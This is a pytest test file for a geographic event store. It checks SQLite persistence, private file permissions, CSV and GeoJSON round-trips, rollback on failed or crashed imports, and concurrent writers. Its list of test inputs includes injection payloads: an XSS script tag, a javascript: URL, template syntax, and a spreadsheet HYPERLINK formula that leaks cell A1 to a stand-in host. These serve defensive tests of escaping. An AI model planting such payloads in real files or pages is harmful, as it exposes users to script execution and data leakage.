"""The user's event store: persistence, export and import, all-or-nothing imports, concurrent writers, crashes."""
import json
import sqlite3
import subprocess
import sys
import threading
from datetime import datetime, timezone
from pathlib import Path

import pytest

from geo.dates import parse_fuzzy
from geo.places.gazetteer import Place
from geo.problems import DataError
from geo.store.my_events import (DATABASE_NAME, SCHEMA_VERSION, MyEventStore, StoreError, default_home, events_csv,
                           new_event)
from tests.conftest import HOSTILE, ROOT

GYUMRI = Place("gn:616635", "Gyumri", "city", 40.79305, 43.84635, "ARM", "616635", 114667)
NOW = datetime(2024, 2, 23, 9, 30, tzinfo=timezone.utc)
HEADER = "id,title,start,precision,place_name,lat,lon,place_kind,place_country,countries,note,source,created_at\n"


def event(title: str = "Russian base stays in Gyumri", start: str = "2024-02-22", **fields):
    place, countries = fields.pop("place", GYUMRI), fields.pop("countries", ["ARM", "RUS"])
    return new_event(title, parse_fuzzy(start), place, countries=countries, now=NOW, **fields)


@pytest.fixture
def store(tmp_path) -> MyEventStore:
    return MyEventStore.open(tmp_path)


def test_the_home_folder_comes_from_the_environment(monkeypatch, tmp_path):
    monkeypatch.setenv("ALLIANCE_ATLAS_HOME", str(tmp_path / "atlas"))
    assert default_home() == tmp_path / "atlas"
    assert MyEventStore.open().path == tmp_path / "atlas" / DATABASE_NAME
    monkeypatch.delenv("ALLIANCE_ATLAS_HOME")
    assert default_home() == Path.home() / ".alliance-atlas"


def test_a_new_event_carries_the_resolved_place_and_a_uuid():
    made = event(note="seen in <b>Azatutyun</b>", source="https://example.org/a")
    assert (made.place_name, made.lat, made.lon, made.place_kind, made.place_country) == \
        ("Gyumri", 40.79305, 43.84635, "city", "ARM")
    assert made.countries == ("ARM", "RUS") and made.note == "seen in <b>Azatutyun</b>" and made.created_at == NOW
    assert len(made.id) == 36 and made.id != event().id


def test_events_survive_a_restart_and_can_be_deleted(tmp_path):
    first, second = event(), event("Summit in Yerevan", "2023-10")
    store = MyEventStore.open(tmp_path)
    store.add(first)
    store.add(second)
    reopened = MyEventStore.open(tmp_path)  # a new process would do the same: nothing is cached in memory
    assert reopened.events() == [second, first]  # by start date
    assert reopened.get(first.id) == first
    assert reopened.delete([first.id, "not-there"]) == 1
    assert MyEventStore.open(tmp_path).events() == [second]


def test_the_file_has_a_version_table_and_runs_in_wal_mode(store):
    with sqlite3.connect(store.path) as connection:
        assert connection.execute("SELECT version FROM schema_version").fetchall() == [(SCHEMA_VERSION,)]
        assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)


def test_the_store_is_private_to_the_user(tmp_path):
    store = MyEventStore.open(tmp_path / "home")
    with sqlite3.connect(store.path) as reader:  # a reader keeps the -wal and -shm files in place
        reader.execute("SELECT count(*) FROM events").fetchone()
        store.add(event())
        files = sorted(p.name for p in (tmp_path / "home").iterdir())
    assert files == [DATABASE_NAME, f"{DATABASE_NAME}-shm", f"{DATABASE_NAME}-wal"]
    assert (tmp_path / "home").stat().st_mode & 0o777 == 0o700
    assert {(tmp_path / "home" / name).stat().st_mode & 0o777 for name in files} == {0o600}


def test_a_store_written_by_a_newer_version_is_refused(store):
    with sqlite3.connect(store.path) as connection:
        connection.execute("UPDATE schema_version SET version = ?", (SCHEMA_VERSION + 1,))
    with pytest.raises(StoreError, match="newer Alliance Atlas"):
        MyEventStore(store.path)


TYPED = ["if a<b and c>d", "AT&T &amp; <b>bold</b>", "Talks <script>alert(1)</script>in <i>Kant</i>",
         '=HYPERLINK("https://example.org/?leak="&A1,"Gyumri")', "+7 dead", "-1 tank", "@SUM(A1)", "'=typed",
         "{{ 7*7 }} {% if 1 %}x{% endif %} {# #}", "line one\rline two\r\nthree\nfour", "tab\tinside",
         "javascript:alert(1)", "control \x01\x1f\x7f chars", "Şuşa — «Xankəndi» 中文 🙂", *HOSTILE]


@pytest.mark.parametrize("typed", TYPED)
def test_text_is_kept_exactly_as_typed(store, typed):
    """Every output escapes text, so nothing is stripped on the way in: `if a<b and c>d` used to become `if ad`."""
    made = event(typed, note=typed, source=typed, place_name=typed)
    store.add(made)
    assert (store.get(made.id).title, made.note, made.source, made.place_name) == (typed,) * 4


@pytest.mark.parametrize("export", ["export_csv", "export_geojson"])
def test_export_then_import_gives_identical_events_for_hostile_text(store, tmp_path, export):
    for typed in TYPED:
        store.add(event(typed, note=f"{typed}\n{typed}", source=typed, place_name=typed))
    data = getattr(store, export)()
    again = MyEventStore(tmp_path / "again" / DATABASE_NAME)
    assert again.import_file(f"mine.{export[7:]}", data.encode()).added == len(TYPED)
    assert again.events() == store.events()
    assert getattr(again, export)() == data


def test_csv_export_shows_formulas_as_text_and_quotes_carriage_returns(store):
    store.add(event('=HYPERLINK("https://example.org")', note="a\rb"))
    row = store.export_csv().split("\r\n")[1]
    assert ',"\'=HYPERLINK(""https://example.org"")",' in row and ',"a\rb",' in row


def test_csv_and_geojson_exports_import_into_an_empty_store(store, tmp_path):
    unplaced = event("Protocol renewed", "1999", place=None, place_name="", countries=[])
    for made in (event(), unplaced):
        store.add(made)
    for name, data in (("mine.csv", store.export_csv()), ("mine.geojson", store.export_geojson())):
        fresh = MyEventStore(tmp_path / name / DATABASE_NAME)
        report = fresh.import_file(name, data.encode())
        assert (report.added, report.already_present) == (2, 0)
        assert fresh.events() == store.events()
    features = json.loads(store.export_geojson())["features"]
    assert [f["geometry"] for f in features] == [None, {"type": "Point", "coordinates": [43.84635, 40.79305]}]


def test_importing_the_same_events_twice_adds_them_once(store):
    store.add(event())
    report = store.import_file("again.csv", store.export_csv().encode())
    assert (report.added, report.already_present) == (0, 1)
    assert len(store.events()) == 1


def test_a_bad_csv_adds_nothing_and_names_every_row_and_field(store):
    store.add(event())
    before = store.events()
    bad = HEADER + "\n".join([
        ",Good row,2023-10-13,day,Bishkek,42.87,74.59,city,KGZ,KGZ,,,",
        "not-a-uuid,,2023-13-01,,,,,,,,,,",
        ",Wrong precision,2023-10,day,,91,200,town,kgz,KGZ;ru,,,yesterday",
        ",Lat only,2023,,,41.0,,,,,,,",
    ]) + "\n"
    with pytest.raises(DataError) as raised:
        store.import_file("events.csv", bad.encode())
    problems = {(p.line, p.field) for p in raised.value.problems}
    assert problems == {(3, "id"), (3, "title"), (3, "start"), (4, "start"), (4, "lat"), (4, "lon"),
                        (4, "place_kind"), (4, "place_country"), (4, "countries"), (4, "created_at"), (5, "lon")}
    assert str(raised.value).startswith("events.csv:3: id: 'not-a-uuid' is not a UUID")
    assert store.events() == before


def test_a_bad_geojson_reports_feature_numbers(store):
    collection = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [74.59, 42.87]},
         "properties": {"title": "Summit", "start": "2023-10-13"}},
        {"type": "Feature", "geometry": {"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
         "properties": {"title": "Line", "start": "2023"}},
        {"type": "Feature", "geometry": None, "properties": {"title": "", "start": "2023"}},
        "not a feature",
    ]}
    with pytest.raises(DataError) as raised:
        store.import_file("events.geojson", json.dumps(collection).encode())
    assert {(p.line, p.field) for p in raised.value.problems} == {(2, "geometry"), (3, "title"), (4, "properties")}
    assert store.events() == []


@pytest.mark.parametrize("name, data, message", [
    ("events.csv", b"title\n" + b"x" * 2000, "over the 0.001 MB import limit"),
    ("events.xlsx", b"PK", "only .csv and .geojson"),
    ("events.csv", b"name,date\nx,2023\n", "the header lacks title, start"),
    ("events.geojson", b'{"type": "Feature"}', "not a GeoJSON FeatureCollection"),
    ("events.csv", "title,start\nGyumri é,2023\n".encode("latin-1"), "is not UTF-8"),
])
def test_files_that_cannot_be_read_are_refused_as_a_whole(store, name, data, message):
    with pytest.raises(DataError, match=message) as raised:
        store.import_file(name, data, max_bytes=1000)
    assert [(p.path, p.line, p.field) for p in raised.value.problems] == [(name, 0, "file")]


def test_duplicate_ids_within_a_file_are_reported_at_their_line(store):
    made, other = event(), event("Another")
    data = events_csv([made, other]) + events_csv([made]).split("\r\n", 1)[1]
    with pytest.raises(DataError) as raised:
        store.import_file("twice.csv", data.encode())
    assert [str(p) for p in raised.value.problems] == [
        f"twice.csv:4: id: {made.id} appears twice in the file (first at 2)"]


def test_a_failure_half_way_through_an_import_rolls_everything_back(store, monkeypatch):
    import geo.store.my_events as my_events

    store.add(event())
    data = events_csv([event(f"Event {n}") for n in range(10)]).encode()
    calls = []

    def failing_row(made):
        calls.append(made)
        if len(calls) == 5:
            raise OSError("disk full")
        return original(made)

    original = my_events._row_of
    monkeypatch.setattr(my_events, "_row_of", failing_row)
    with pytest.raises(OSError):
        store.import_file("ten.csv", data)
    monkeypatch.undo()
    assert len(store.events()) == 1


CRASHING_IMPORT = """
import os, sys
from pathlib import Path
import geo.store.my_events as my_events
count = 0
original = my_events._row_of
def dying(event):
    global count
    count += 1
    if count == 25:
        os._exit(3)  # the process dies inside the transaction, as on a power cut or kill -9
    return original(event)
my_events._row_of = dying
store = my_events.MyEventStore(Path(sys.argv[1]))
store.import_file("fifty.csv", Path(sys.argv[2]).read_bytes())
"""


def test_a_crash_mid_import_leaves_the_store_unchanged(store, tmp_path):
    store.add(event())
    upload = tmp_path / "fifty.csv"
    upload.write_text(events_csv([event(f"Event {n}") for n in range(50)]))
    result = subprocess.run([sys.executable, "-c", CRASHING_IMPORT, str(store.path), str(upload)], cwd=ROOT,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 3, result.stderr
    assert [e.title for e in MyEventStore(store.path).events()] == ["Russian base stays in Gyumri"]


def test_two_threads_with_their_own_connections_both_keep_their_events(tmp_path):
    MyEventStore.open(tmp_path)
    start = threading.Barrier(2)
    errors = []

    def writer(name: str) -> None:
        own = MyEventStore.open(tmp_path)
        start.wait()
        try:
            for n in range(40):
                own.add(event(f"{name} {n}"))
        except Exception as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=writer, args=(name,)) for name in ("left", "right")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    titles = [e.title for e in MyEventStore.open(tmp_path).events()]
    assert errors == []
    assert sorted(titles) == sorted([f"left {n}" for n in range(40)] + [f"right {n}" for n in range(40)])


CONCURRENT_WRITER = """
import sys
from datetime import datetime, timezone
from pathlib import Path
from geo.dates import parse_fuzzy
from geo.store.my_events import MyEventStore, new_event
store = MyEventStore(Path(sys.argv[1]))
print("ready", flush=True)
sys.stdin.readline()
for n in range(30):
    store.add(new_event(f"{sys.argv[2]} {n}", parse_fuzzy("2023")))
    store.import_file("batch.csv", ("title,start\\n" + f"{sys.argv[2]} batch {n},2022\\n").encode())
"""


def test_two_processes_writing_at_once_both_keep_their_events(store):
    writers = [subprocess.Popen([sys.executable, "-c", CONCURRENT_WRITER, str(store.path), name], cwd=ROOT,
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
               for name in ("first", "second")]
    for writer in writers:
        assert writer.stdout.readline().strip() == "ready"
    for writer in writers:  # released together, so their transactions interleave
        writer.stdin.write("go\n")
        writer.stdin.flush()
    for writer in writers:
        assert writer.wait(timeout=60) == 0, writer.stderr.read()
    titles = {e.title for e in store.events()}
    assert len(titles) == 120
    assert {f"{name} {n}" for name in ("first", "second") for n in range(30)} <= titles


def test_a_truncated_geojson_is_reported_at_its_line(store):
    whole = store.export_geojson() if store.add(event()) is None else ""
    with pytest.raises(DataError) as raised:
        store.import_file("cut.geojson", whole[:len(whole) // 2].encode())
    [problem] = raised.value.problems
    assert (problem.path, problem.field) == ("cut.geojson", "file") and problem.line > 1
    assert "not JSON" in problem.message and "is the file complete?" in problem.message


@pytest.mark.parametrize("depth", [5_000, 100_000])
def test_deeply_nested_geojson_is_refused_with_a_message(store, depth):
    """It raised RecursionError (a traceback on the screen)."""
    nested = "[" * depth + "]" * depth
    data = f'{{"type": "FeatureCollection", "features": [{{"properties": {{"note": {nested}}}}}]}}'
    with pytest.raises(DataError, match="nested too deeply") as raised:
        store.import_file("deep.geojson", data.encode())
    assert [(p.line, p.field) for p in raised.value.problems] == [(0, "file")]


def test_properties_and_coordinates_must_be_plain_values(store):
    collection = {"type": "FeatureCollection", "features": [
        {"geometry": {"type": "Point", "coordinates": [[[1]], 2]}, "properties": {"title": ["a"], "start": "2023"}},
        {"geometry": None, "properties": {"title": "x", "start": "2023", "note": {"a": [[1]]}}},
    ]}
    with pytest.raises(DataError) as raised:
        store.import_file("odd.geojson", json.dumps(collection).encode())
    assert {(p.line, p.field) for p in raised.value.problems} == {(1, "geometry"), (1, "title"), (2, "note")}


@pytest.mark.parametrize("header, expected", [
    ("title,start,,note", "odd.csv:1: header: column 3 has no name; expected: id, title"),
    ("title,start,note,note", "odd.csv:1: header: column 'note' appears twice"),
    ("title,start,Note", "odd.csv:1: header: column 'Note' should be written 'note'"),
])
def test_unnamed_repeated_and_miscased_columns_are_named(store, header, expected):
    with pytest.raises(DataError) as raised:
        store.import_file("odd.csv", f"{header}\nSummit,2023,a,b\n".encode())
    assert str(raised.value).startswith(expected)


def test_a_miscased_required_column_is_explained(store):
    with pytest.raises(DataError, match=r"lacks title; .*; column names are lower case, not 'Title'$"):
        store.import_file("odd.csv", b"Title,start\nSummit,2023\n")


def test_a_cell_longer_than_csv_allows_is_reported_at_its_line(store):
    """Python's csv module refuses cells over 128 KB with _csv.Error; that was a traceback."""
    data = HEADER + ",Fine,2023,,,,,,,,,,\n" + ",Long,2023,,,,,,,,," + "x" * 200_000 + ",\n"
    with pytest.raises(DataError) as raised:
        store.import_file("long.csv", data.encode())
    [problem] = raised.value.problems
    assert (problem.line, problem.field) == (3, "row") and "cannot be read as CSV" in problem.message


def test_messages_quote_long_values_briefly(store):
    data = HEADER + ",Summit," + "9" * 100_000 + ",,," + "y" * 100_000 + ",1,,,,,,\n"
    with pytest.raises(DataError) as raised:
        store.import_file("long.csv", data.encode())
    assert {(p.line, p.field) for p in raised.value.problems} == {(2, "start"), (2, "lat")}
    assert all(len(str(p)) < 200 for p in raised.value.problems)
